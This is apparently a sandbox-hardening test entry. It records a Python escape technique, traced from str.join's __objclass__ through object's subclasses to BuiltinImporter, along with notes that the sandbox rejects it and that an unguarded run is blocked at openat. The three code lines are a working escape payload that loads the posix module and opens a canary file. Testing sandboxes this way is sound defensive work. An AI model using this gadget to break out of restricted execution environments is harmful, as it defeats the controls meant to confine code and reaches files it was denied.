# Technique   a method of a type tells the type, the type its base
# Mechanism   __objclass__ of a method descriptor
# As shipped  rejected: underscore
# Unguarded   blocked: openat

top = str.join.__objclass__.__base__
importer = [c for c in top.__subclasses__() if "BuiltinImporter" in str(c)][0]
return str(importer.load_module("posix").open(CANARY_FILE, 0))
